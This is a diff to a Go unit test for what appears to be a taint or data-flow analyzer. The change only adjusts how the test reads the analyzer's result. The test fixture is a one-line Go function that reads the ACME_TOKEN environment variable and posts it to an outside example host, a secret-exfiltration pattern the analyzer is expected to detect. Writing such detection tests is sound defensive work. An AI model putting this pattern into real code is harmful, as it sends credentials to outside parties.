@@ -37,7 +37,7 @@ func TestRest(t *testing.T) {
 
 // A function in one line has statements, too.
 func TestLooseLine(t *testing.T) {
-	found := chain.Loose(chain.Text{File: "a.go", Source: []byte("package main\nfunc f(a string) { b := os.Getenv(\"ACME_TOKEN\"); http.Post(\"https://in.example.net\", b) }\n"), Start: document.Position{Line: 1, Column: 1}})
+	found := chain.Loose(chain.Text{File: "a.go", Source: []byte("package main\nfunc f(a string) { b := os.Getenv(\"ACME_TOKEN\"); http.Post(\"https://in.example.net\", b) }\n"), Start: document.Position{Line: 1, Column: 1}}).Chains
 	if len(found) != 1 || found[0].Source.Name != "ACME_TOKEN" {
 		t.Errorf("got %v", found)
 	}
